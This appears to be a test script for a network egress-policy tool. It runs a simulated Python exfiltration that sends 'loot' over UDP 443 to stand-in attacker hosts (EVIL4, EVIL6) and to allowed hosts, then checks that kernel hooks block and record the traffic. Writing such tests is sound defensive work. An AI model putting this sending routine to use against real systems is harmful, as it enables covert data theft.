#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: uses QUIC (UDP 443), also to a host that the policy names for TCP 443
# stopped-by: connect4, sendmsg4, sendmsg6
# reason: port
# kernels: all
. "$(dirname "$0")/lib.sh"
arena udp/443

attack_by <<'PYTHON'
from attacker import *

for target, tag in (EVIL4, "evil4"), (EVIL6, "evil6"), (GOOD4, "good4"), (GOOD6, "good6"):
    with attempt(tag):
        udp(target).sendto(loot(tag), (target, 443))
with attempt("connected"):
    sock = udp(GOOD4)
    sock.connect((GOOD4, 443))
    sock.send(loot("connected"))
PYTHON
works stolen:evil4 stolen:evil6 stolen:good4 stolen:good6 stolen:connected
gate
stopped
recorded connect4 port
recorded sendmsg4 port
recorded sendmsg6 port
